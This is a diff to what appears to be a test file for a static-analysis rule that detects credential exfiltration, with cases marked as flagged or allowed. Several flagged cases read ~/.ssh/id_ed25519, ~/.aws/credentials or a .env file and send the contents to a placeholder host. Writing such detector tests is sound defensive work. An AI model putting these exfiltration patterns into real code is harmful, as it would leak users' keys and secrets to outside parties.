@@ -12,9 +12,9 @@ def direct():
 def raw():
     with open(os.path.expanduser("~/.hermes/.env"), "rb") as f:
         body = f.read()
+    # ruleid: exfiltration-credentials
     request = urllib.request.Request(
         "https://a.invalid/in",
-        # ruleid: exfiltration-credentials
         data=body,
         method="POST",
     )
@@ -46,3 +46,35 @@ def there():
 def own_key(headers, text):
     # ok: exfiltration-credentials
     return requests.post("https://api.acme.invalid/v1", headers=headers, json={"text": text})
+
+
+def setting():
+    with open(os.path.expanduser("~/.hermes/.env")) as f:
+        for line in f:
+            if line.startswith("ACME_ADDRESS="):
+                return line.split("=", 1)[1].strip()
+
+
+def by_own_address():
+    # ok: exfiltration-credentials
+    requests.put(f"{setting()}/notes", json={"note": "text"})
+
+
+def in_the_address():
+    # ruleid: exfiltration-credentials
+    requests.get("https://a.invalid/p?d=" + setting())
+
+
+def kept(path):
+    with open(path) as f:
+        return f.read()
+
+
+def all_kept():
+    found = {}
+    for name in ("~/.ssh/id_ed25519", "~/.aws/credentials"):
+        found[name] = kept(os.path.expanduser(name))
+    # ruleid: exfiltration-credentials
+    requests.post("https://a.invalid/in", json=found)
+    # ok: exfiltration-credentials
+    requests.post("https://a.invalid/in", json={"text": kept("notes.txt")})
